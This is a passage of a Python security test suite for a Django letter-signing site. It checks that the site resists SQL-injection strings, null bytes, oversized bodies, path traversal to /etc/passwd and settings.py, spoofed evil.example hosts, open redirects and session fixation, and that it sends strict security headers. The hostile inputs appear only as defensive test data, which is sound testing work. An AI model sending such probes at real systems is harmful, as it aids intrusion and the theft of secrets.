    for name in names:
        _sign(letter, name=name)
    for sig in Signature.objects.all():
        services.signature_approve(signature=sig, actor=None)
    coord = coordinator_client()
    for q in SQLISH:
        r = coord.get(f"/manage/letters/{letter.slug}/signatures/", {"q": q})
        assert r.status_code == 200, q
        body = r.content.decode()
        assert not any(name in body for name in names), q
        r = Client().get(f"/{letter.slug}/en/suggest/", {"name": q})
        assert r.status_code == 200, q
        assert not any(name in r.content.decode() for name in names), q
    # The control: a real query finds its row.
    body = coord.get(f"/manage/letters/{letter.slug}/signatures/", {"q": "Beta"}).content.decode()
    assert "Beta Search Org" in body and "Alpha Search Org" not in body
    state = coord.get(f"/manage/letters/{letter.slug}/signatures/", {"state": "' OR 1=1 --"})
    assert state.status_code == 200
    assert Signature.objects.count() == 3
    r = Client().post("/login/", {"username": "' OR 1=1 --", "password": "' OR 1=1 --"})
    assert r.status_code == 200 and "_auth_user_id" not in Client().session


def test_a_null_character_from_a_visitor_is_harmless():
    letter = make_letter()
    coordinator()
    r = Client().get(f"/{letter.slug}/en/suggest/", {"name": "a\x00bc"})
    assert r.status_code in (200, 400)
    for field in ("name", "contact_name", "contact_email", "acronym", "website"):
        r = Client().post(f"/{letter.slug}/en/", form_data(**{field: "Null\x00Org"}))
        assert r.status_code == 400, field
    assert Signature.objects.count() == 0
    for data in ({"username": "coord\x00", "password": "x"},
                 {"username": "coord", "password": "pass\x00word"}):
        for path in ("/login/", "/account/login/"):
            r = Client().post(path, data)
            assert r.status_code in (200, 400), (path, data, r.status_code)
    assert Client().get("/confirm/%00abc/").status_code in (400, 404)


ON_POSTGRES = "postgresql" in settings.DATABASES["default"]["ENGINE"]


def test_a_null_character_in_the_coordinators_search_is_harmless():
    letter = make_letter()
    coord = coordinator_client()
    r = coord.get(f"/manage/letters/{letter.slug}/signatures/", {"q": "a\x00b"})
    assert r.status_code in (200, 400)


def test_a_malformed_organisation_id_is_a_clean_refusal():
    coord = coordinator_client()
    org = org_services.organization_create(name="Malformed Id Org")
    for path in ("/manage/registry/distinct/", "/manage/registry/merge/"):
        r = coord.post(path, {"a": "not-a-uuid", "b": org.public_id})
        assert r.status_code in (302, 400, 404), (path, r.status_code)


def test_marking_two_organisations_distinct_is_saved():
    from undersigned.orgs.models import DuplicateDecision

    coord = coordinator_client()
    a = org_services.organization_create(name="Distinct Pair One")
    b = org_services.organization_create(name="Distinct Pair Two")
    r = coord.post("/manage/registry/distinct/", {"a": a.public_id, "b": b.public_id})
    assert r.status_code == 302
    assert DuplicateDecision.objects.filter(decision="distinct").count() == 1


# --- probing for addresses --------------------------------------------------------------------


def test_sign_on_answers_do_not_tell_whether_an_address_is_known():
    letter = make_letter()
    known = "known.signer@watched-ngo.example"
    sig, confirm, _w = _sign(letter, name="Known Signer Org", contact_email=known,
                             visibility="anonymous")
    Client().post(confirm)
    services.signature_approve(signature=sig, actor=None)
    n = len(mail.messages())

    def attempt(email, name):
        client = Client()
        client.get(f"/{letter.slug}/en/")
        r = client.post(f"/{letter.slug}/en/", form_data(name=name, contact_email=email,
                                                         contact_name="Probe Person",
                                                         website="probe.example"))
        return r, client.get(r["Location"])

    unknown = attempt("nobody.here@probe.example", "Probe Org One")
    same_email = attempt(known, "Probe Org Two")
    same_both = attempt(known, "Known Signer Org")
    for r, page in (same_email, same_both):
        assert (r.status_code, r["Location"], r.content) == (
            unknown[0].status_code, unknown[0]["Location"], unknown[0].content)
        assert without_csrf(page.content) == without_csrf(unknown[1].content)
    sent = mail.messages()[n:]
    assert len(sent) == 3
    assert len({m["Subject"] for m in sent}) == 1

    def shape(msg):
        text = mail.without_tokens(mail.body(msg))
        return re.sub(r"Probe Org One|Probe Org Two|Known Signer Org", "ORG", text)

    assert len({shape(m) for m in sent}) == 1


# --- oversized and malformed bodies ---------------------------------------------------------


def test_a_ten_megabyte_post_is_refused_cleanly():
    letter = make_letter()
    big = "x" * (10 * 1024 * 1024)
    for client in (Client(), Client(enforce_csrf_checks=True)):
        r = client.post(f"/{letter.slug}/en/", {**form_data(), "name": big})
        assert r.status_code in (400, 403, 413), r.status_code
        assert b"Traceback" not in r.content and len(r.content) < 100_000
        r = client.post(f"/{letter.slug}/en/", big,
                        content_type="application/x-www-form-urlencoded")
        assert r.status_code in (400, 403, 413)
    strict = Client(enforce_csrf_checks=True)
    page = strict.get(f"/{letter.slug}/en/").content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)[1]
    r = strict.post(f"/{letter.slug}/en/", {**form_data(), "csrfmiddlewaretoken": token,
                                            "name": big})
    assert r.status_code in (400, 413), r.status_code
    coord = coordinator_client()
    r = coord.post("/manage/preview/", {"body_md": big})
    assert r.status_code in (400, 413)
    r = coord.post(f"/manage/letters/{letter.slug}/text/en/",
                   {"title": "t", "body_md": big, "asks": ""})
    assert r.status_code in (400, 413)
    many = "&".join(f"f{i}=1" for i in range(5000))
    r = Client().post(f"/{letter.slug}/en/", many,
                      content_type="application/x-www-form-urlencoded")
    assert r.status_code in (400, 413)
    r = Client().get(f"/{letter.slug}/en/suggest/", {"name": "a" * 100_000})
    assert r.status_code in (200, 400, 414)
    assert Signature.objects.count() == 0 and mail.messages() == []
    assert LetterTranslation.objects.get(letter=letter, lang="en").body_md != big


# --- headers ---------------------------------------------------------------------------------


def _csp(value: str) -> dict[str, list[str]]:
    out = {}
    for part in value.split(";"):
        words = part.split()
        if words:
            out[words[0].lower()] = words[1:]
    return out


def check_headers(response, where: str) -> None:
    h = response.headers
    assert h.get("X-Content-Type-Options") == "nosniff", where
    assert h.get("Referrer-Policy") == "same-origin", (where, h.get("Referrer-Policy"))
    assert h.get("X-Frame-Options") == "DENY", where
    csp = h.get("Content-Security-Policy")
    assert csp, f"{where}: no Content-Security-Policy"
    directives = _csp(csp)
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts is not None, where
    for bad in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:",
                "'unsafe-hashes'"):
        assert bad not in scripts, (where, csp)
    assert directives.get("frame-ancestors") == ["'none'"], (where, csp)
    assert directives.get("object-src", directives.get("default-src")) in (["'none'"],
                                                                           ["'self'"]), where
    assert "base-uri" in directives, where
    for morsel in response.cookies.values():
        if morsel.key == "sessionid" and morsel.value:  # (not the deletion at logout)
            assert morsel["httponly"], where
            assert morsel["samesite"].lower() in ("lax", "strict"), where


def test_every_kind_of_page_sends_the_security_headers():
    letter = make_letter()
    user = coordinator()
    sig, confirm, withdraw = _sign(letter, name="Header Check Org")
    services.signature_approve(signature=sig, actor=None)
    published = make_letter(slug="published-headers")
    from undersigned.publishing.services import edition_publish

    edition_publish(letter=published)
    client = Client()
    slug = letter.slug
    responses = {
        "home": client.get("/"), "pick language": client.get(f"/{slug}/"),
        "letter": client.get(f"/{slug}/en/"), "letter zh": client.get(f"/{slug}/zh-hant/"),
        "thanks": client.get(f"/{slug}/en/thanks/"),
        "suggest": client.get(f"/{slug}/en/suggest/", {"name": "Head"}),
        "invalid sign-on": client.post(f"/{slug}/en/", form_data(name="<x>")),
        "sign-on": client.post(f"/{slug}/en/", form_data()),
        "confirm page": client.get(confirm), "withdraw page": client.get(withdraw),
        "bad token": client.get("/confirm/nope/"),
        "editions": client.get("/published-headers/editions/"),
        "edition": client.get("/published-headers/edition/1/en/"),
        "404": client.get("/no-such-page/"),
        "405": client.put(f"/{slug}/en/"),
        "403 csrf": Client(enforce_csrf_checks=True).post(f"/{slug}/en/", form_data()),
        "login": client.get("/login/"), "account login": client.get("/account/login/"),
        "manage anonymous": client.get("/manage/"),
        "too big": client.post(f"/{slug}/en/", "x" * (6 * 1024 * 1024),
                               content_type="application/x-www-form-urlencoded"),
    }
    for fmt in FORMATS:
        responses[f"download {fmt}"] = client.get(f"/published-headers/edition/1/en/{fmt}/")
    login = Client()
    responses["login post"] = login.post("/login/", {"username": user.username,
                                                     "password": PASSWORD})
    for path in ("/manage/", f"/manage/letters/{slug}/", f"/manage/letters/{slug}/signatures/",
                 f"/manage/signatures/{sig.public_id}/", f"/manage/letters/{slug}/text/fr/",
                 f"/manage/letters/{slug}/audit/", "/manage/registry/duplicates/",
                 "/manage/import/letter/", f"/manage/import/letters/{slug}/signons/",
                 "/manage/letters/new/", "/account/", "/account/2fa/setup/"):
        responses[f"coordinator {path}"] = login.get(path)
    responses["logout"] = login.post("/logout/")
    for where, response in responses.items():
        check_headers(response, where)
        if where.startswith("coordinator"):  # pages with contact details: never shared
            assert "Cookie" in response.headers.get("Vary", "") or "private" in \
                response.headers.get("Cache-Control", ""), where
    assert responses["login post"].cookies["sessionid"]["httponly"]
    assert responses["403 csrf"].status_code == 403 and responses["too big"].status_code == 400
    # Static files: served by this site, never sniffed.
    static = client.get("/static/undersigned/site.js")
    assert static.status_code == 200
    assert static.headers.get("X-Content-Type-Options") == "nosniff"
    assert static.headers.get("Referrer-Policy") == "same-origin"


def test_a_bad_host_answer_sends_the_security_headers():
    r = Client(HTTP_HOST="evil.example").get("/")
    assert r.status_code == 400
    check_headers(r, "bad host")


def test_no_page_sets_a_session_cookie_for_a_visitor():
    letter = make_letter()
    client = Client()
    for path in ("/", f"/{letter.slug}/en/", f"/{letter.slug}/en/suggest/?name=ab"):
        r = client.get(path)
        assert "sessionid" not in r.cookies, path
    r = client.post(f"/{letter.slug}/en/", form_data())
    assert "sessionid" not in r.cookies
    assert "sessionid" not in client.cookies
    html = client.get(f"/{letter.slug}/en/").content.decode()
    # The form posts to this site only, and nothing is loaded from elsewhere.
    assert re.findall(r'(?:src|href|action)="(https?:)?//', html) == []


def test_files_are_not_served_from_outside_static():
    client = Client()
    for path in ("/static/../settings.py", "/static/%2e%2e/%2e%2e/undersigned/settings.py",
                 "/static/undersigned/../../../../etc/passwd", "/static/..%2f..%2fetc/passwd"):
        r = client.get(path)
        assert r.status_code == 404, path
        assert b"root:x:0" not in r.content and b"SECRET_KEY" not in r.content
    assert Organization.objects.count() == 0


@pytest.mark.two_factor
def test_a_password_alone_does_not_open_the_coordinator_pages():
    from tests.accounts.helpers import login_verified

    user = coordinator()
    letter = make_letter()
    sig, _c, _w = _sign(letter, name="Second Factor Org",
                        contact_email="second.factor@guarded.example")
    for login_path in ("/login/", "/account/login/"):
        client = Client()
        r = client.post(login_path, {"username": user.username, "password": PASSWORD,
                                     "next": "https://evil.example/"})
        assert r.status_code == 302
        assert r["Location"].startswith("/account/2fa/setup/"), r["Location"]
        assert "evil.example" not in r["Location"]
        for path in ("/manage/", f"/manage/letters/{letter.slug}/signatures/",
                     f"/manage/signatures/{sig.public_id}/", "/manage/registry/duplicates/",
                     "/manage/import/letter/", "/admin/"):
            r = client.get(path)
            assert r.status_code == 302 and r["Location"].startswith("/account/2fa/"), path
            assert b"guarded.example" not in r.content
        r = client.post(f"/manage/signatures/{sig.public_id}/approve/")
        assert r.status_code == 302 and r["Location"].startswith("/account/2fa/")
        sig.refresh_from_db()
        assert sig.state == "pending"
        page = client.get("/account/2fa/setup/", {"next": "https://evil.example/"})
        for shown in re.findall(r'name="next" value="([^"]*)"', page.content.decode()):
            assert shown == "" or _same_site(unescape(shown)), shown
    # The control: with the second factor, the same pages open.
    client, _secret = login_verified(user, PASSWORD)
    assert client.get(f"/manage/letters/{letter.slug}/signatures/").status_code == 200


# --- sessions and hosts -------------------------------------------------------------------


def test_emailed_links_ignore_the_host_the_request_claims():
    letter = make_letter()
    for headers in ({"HTTP_HOST": "localhost"},
                    {"HTTP_HOST": "localhost", "HTTP_X_FORWARDED_HOST": "evil.example"},
                    {"HTTP_HOST": "127.0.0.1", "HTTP_FORWARDED": "host=evil.example"}):
        data = form_data()
        r = Client(**headers).post(f"/{letter.slug}/en/", data)
        assert r.status_code == 302
        body = mail.body(last_mail_to(data["contact_email"]))
        assert "evil.example" not in body
        urls = re.findall(r"https?://\S+", body)
        assert urls and all(u.startswith(settings.SITE_URL + "/") for u in urls), urls


def test_login_rotates_the_session_and_logout_needs_a_post():
    user = coordinator()
    client = Client()
    client.get("/login/")
    client.cookies["sessionid"] = "attacker-chosen-session-key"
    r = client.post("/login/", {"username": user.username, "password": PASSWORD})
    assert r.status_code == 302
    assert client.cookies["sessionid"].value != "attacker-chosen-session-key"
    assert client.get("/manage/").status_code == 200
    assert client.get("/logout/").status_code == 405  # a link or an <img> cannot log out
    assert client.get("/manage/").status_code == 200


def test_a_letter_cannot_take_the_address_of_another_page():
    coord = coordinator_client()
    for slug in ("account", "campaigns"):
        r = coord.post("/manage/letters/new/", {
            "letter-slug": slug, "letter-source_lang": "en", "letter-languages": ["en"],
            "text-title": f"Letter at {slug}", "text-body_md": "x", "text-asks": ""})
        assert not Letter.objects.filter(slug=slug).exists(), slug
        assert r.status_code == 200
